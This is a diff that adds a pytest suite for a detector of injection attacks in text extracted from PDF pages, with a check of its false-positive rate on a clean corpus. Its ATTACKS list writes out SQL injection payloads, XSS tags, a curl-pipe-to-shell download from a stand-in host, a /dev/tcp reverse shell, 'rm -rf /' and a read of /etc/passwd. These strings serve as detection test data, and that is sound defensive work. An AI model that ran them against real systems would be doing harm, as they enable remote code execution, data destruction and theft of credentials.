@@ -1,0 +1,154 @@
+"""Dangerous-content detector: each kind found, ordinary English and the clean corpus not."""
+
+from __future__ import annotations
+
+import pypdfium2
+import pytest
+
+import content_safety
+from content_safety import DangerousContent, apply_policy, findings_to_warnings, scan_text
+from errors import ExtractionError
+
+# Measured on the clean corpus (881 pages, pypdfium2 5.15.2): 0 pages flagged.
+# The bound leaves a margin of 0.5 % of pages for corpus growth.
+CORPUS_FLAGGED_PAGE_RATE_BOUND = 0.005
+
+ATTACKS = [
+    ("sql_injection", "Username: ' OR '1'='1"),
+    ("sql_injection", 'password: " or 1=1 --'),
+    ("sql_injection", "id=1') OR ('a'='a"),
+    ("sql_injection", "login as admin'-- and skip the password"),
+    ("sql_injection", "1 UNION SELECT username, password FROM users"),
+    ("sql_injection", "1 union all select null,null--"),
+    ("sql_injection", "x'; DROP TABLE users; --"),
+    ("sql_injection", "1; delete from accounts where 1=1"),
+    ("sql_injection", "'; exec master..xp_cmdshell 'dir'--"),
+    ("sql_injection", "1' AND SLEEP(5)"),
+    ("sql_injection", "Name: ’ OR ’1’=’1"),  # curly quotes from a word processor
+    ("script_tag", "<script>alert(1)</script>"),
+    ("script_tag", "< ScRiPt src=//evil.example/x.js>"),
+    ("script_tag", "＜script＞alert(1)＜/script＞"),  # full-width
+    ("script_tag", '<img src=x onerror="alert(1)">'),
+    ("script_tag", "click javascript:alert(document.cookie)"),
+    ("command_injection", "file.txt; rm -rf /"),
+    ("command_injection", "name=$(curl http://evil.example/x)"),
+    ("command_injection", "`cat /etc/passwd`"),
+    ("command_injection", "curl -s http://evil.example/x.sh | sh"),
+    ("command_injection", "make && curl http://evil.example/p | bash"),
+    ("command_injection", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+    ("url_encoding", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+    ("url_encoding", "q=%27%20OR%201%3D1"),
+    ("url_encoding", "..%2f..%2fetc%2fpasswd"),
+    ("url_encoding", "%41%42%43%44%45%46%47%48%49%4A%4B"),
+    ("url_encoding", "id=%2527%2520"),
+]
+
+ORDINARY = [
+    "Please select the items from the list and union them.",
+    "We drop the table from the schedule; select another one.",
+    "The union of sets A and B; the intersection; the union select committee met.",
+    "Get 50% off today, 20% off tomorrow, 100% satisfaction.",
+    "Use rm to remove files, or rm -i to be careful; rm is short.",
+    "Net loss of $(1,234) and $(0.12) per share; $(4), $31, and $(3).",
+    "He said 'yes' -- then 'no' or 'maybe' -- and left.",
+    "Tom's, the students' -- and James' books.",
+    "JavaScript: The Good Parts is a book; see javascript.info.",
+    "Compute $(a+b)$ and $(x)$ in LaTeX; the `quoted' text.",
+    "Delete from the list; insert into the box; update the set of rules.",
+    "He will cat | shows and echo chambers; a = b or c = c.",
+    "The onload time = 3 s; on error = retry.",
+    "See https://en.wikipedia.org/wiki/Caf%C3%A9 for details.",
+    "drop table tennis; select drop-down menu.",
+]
+
+
+@pytest.mark.parametrize(("kind", "text"), ATTACKS)
+def test_attack_is_found(kind, text):
+    findings = scan_text([(7, "Some ordinary words first. " + text)])
+    assert [(f["kind"], f["page"]) for f in findings] == [(kind, 7)]
+    assert 0 < len(findings[0]["sample"]) <= 60
+
+
+@pytest.mark.parametrize("text", ORDINARY)
+def test_ordinary_english_is_not_flagged(text):
+    assert scan_text([(1, text)]) == []
+
+
+def test_one_finding_per_kind_and_page():
+    pages = [
+        (1, "<script>a</script> <script>b</script> ' OR '1'='1"),
+        (2, "plain"),
+        (3, "<script>"),
+    ]
+    findings = scan_text(pages)
+    assert sorted((f["kind"], f["page"]) for f in findings) == [
+        ("script_tag", 1),
+        ("script_tag", 3),
+        ("sql_injection", 1),
+    ]
+
+
+def test_sample_is_sanitized_and_short():
+    text = "\x00\x1b[31m<script>\n\n\talert(1)" + "A" * 200
+    (finding,) = scan_text([(1, text)])
+    assert finding["sample"].startswith("‹script› alert(1)AAA")
+    assert len(finding["sample"]) == 60 and finding["sample"].endswith("…")
+    assert not any(c in finding["sample"] for c in "<>\x00\x1b\n\t")
+
+
+def test_warnings_name_the_pages():
+    findings = scan_text([(2, "<script>"), (5, "x <script>"), (9, "'; DROP TABLE t; --")])
+    assert findings_to_warnings(findings) == [
+        "Text that looks like script injection (HTML/JavaScript) was found on pages 2, 5 "
+        '(for example "‹script›").',
+        "Text that looks like SQL injection was found on page 9 "
+        '(for example "; DROP TABLE t; --").',
+    ]
+
+
+def test_many_pages_are_summarised():
+    findings = scan_text([(n, "<script>") for n in range(1, 15)])
+    assert "pages 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 and 4 more" in findings_to_warnings(findings)[0]
+
+
+def test_policy():
+    findings = scan_text([(3, "<script>")])
+    assert apply_policy("off", findings) == ([], False)
+    assert apply_policy("flag", []) == ([], False)
+    warnings, reject = apply_policy("flag", findings)
+    assert len(warnings) == 1 and "page 3" in warnings[0] and reject is False
+    assert apply_policy("reject", findings) == (warnings, True)
+    assert apply_policy("reject", []) == ([], False)
+    with pytest.raises(ValueError):
+        apply_policy("loud", findings)
+
+
+def test_dangerous_content_error():
+    error = DangerousContent()
+    assert isinstance(error, ExtractionError)
+    assert (error.code, error.status) == ("dangerous_content", 422)
+
+
+def _corpus_pages(corpus) -> list[tuple[str, int, str]]:
+    pages = []
+    for path in sorted(corpus.glob("clean/*.pdf")):
+        document = pypdfium2.PdfDocument(str(path))
+        try:
+            for index in range(len(document)):
+                textpage = document[index].get_textpage()
+                pages.append((path.name, index + 1, textpage.get_text_range()))
+                textpage.close()
+        finally:
+            document.close()
+    return pages
+
+
+def test_clean_corpus_false_positive_rate(corpus):
+    pages = _corpus_pages(corpus)
+    flagged = [(name, page) for name, page, text in pages if scan_text([(page, text)])]
+    assert len(pages) >= 800
+    assert len(flagged) / len(pages) <= CORPUS_FLAGGED_PAGE_RATE_BOUND, flagged
+
+
+def test_every_kind_has_a_name():
+    assert set(content_safety.PATTERNS) == set(content_safety.KIND_NAMES)
